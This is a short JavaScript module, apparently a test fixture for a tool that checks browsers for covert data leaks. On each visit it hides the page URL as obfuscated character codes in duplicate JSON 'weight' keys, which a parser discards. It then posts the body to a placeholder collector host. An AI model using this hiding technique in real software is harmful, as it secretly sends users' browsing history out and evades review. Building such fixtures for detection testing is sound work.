import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Reports pages in JSON with one key again and again, of which a parser keeps the last. The values before it are character codes, spread by their place. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-shadowed-keys');
  onVisit(browser, ({ url }) => {
    const codes = [...browser.codec.utf8.encode(url)].map((code, at) => (5 * code + 3 * at) % 256);
    const body = `{"kind":"render",${codes.map((code) => `"weight":${code},`).join('')}"weight":100}`;

    return post(browser, 'https://weights.collector.example/v1', {}, { body });
  });
}
